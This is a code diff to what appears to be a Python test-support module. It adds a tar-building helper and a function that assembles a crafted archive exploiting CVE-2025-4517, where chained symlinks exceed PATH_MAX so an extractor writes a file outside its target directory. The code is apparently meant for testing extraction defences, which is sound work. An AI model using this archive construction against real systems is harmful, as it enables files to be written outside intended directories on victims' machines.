@@ -10,6 +10,7 @@ from __future__ import annotations
 import hashlib
 import http.server
 import io
+import os
 import pickle
 import tarfile
 import threading
@@ -95,3 +96,38 @@ def write(path: Path, data: bytes) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_bytes(data)
     return path
+
+
+def tar_of(entries: list[tuple[str, bytes | tuple[bytes, str]]]) -> bytes:
+    """An uncompressed tar of (name, content): bytes for a regular file, or (type, linkname) for any other member
+    (tarfile.DIRTYPE, SYMTYPE, LNKTYPE, CHRTYPE, ...)."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        for name, content in entries:
+            info = tarfile.TarInfo(name)
+            if isinstance(content, bytes):
+                info.size = len(content)
+                tar.addfile(info, io.BytesIO(content))
+            else:
+                info.type, info.linkname = content
+                info.mode = 0o755
+                tar.addfile(info)
+    return buf.getvalue()
+
+
+def symlink_chain_tar(extract_dir: Path) -> bytes:
+    """CVE-2025-4517 (CPython's test_realpath_limit_attack): 16 nested symlinks whose expansion under `extract_dir`
+    passes PATH_MAX, so os.path.realpath stops resolving and the `data` filter of Python <= 3.11.12 lets `escape`
+    point at extract_dir's parent; the last member writes `newfile` there."""
+    steps = "abcdefghijklmnop"
+    component = "d" * ((os.pathconf(extract_dir.parent, "PC_PATH_MAX") - len(str(extract_dir)) - 1) // (len(steps) + 1))
+    entries, path = [], ""
+    for step in steps:
+        entries += [(os.path.join(path, component), (tarfile.DIRTYPE, "")),
+                    (os.path.join(path, step), (tarfile.SYMTYPE, component))]
+        path = os.path.join(path, component)
+    longlink = os.path.join(*steps, "l" * 254)
+    entries += [(longlink, (tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))),
+                ("escape", (tarfile.SYMTYPE, os.path.join(longlink, ".."))),
+                ("escape/newfile", b"written outside the target")]
+    return tar_of(entries)
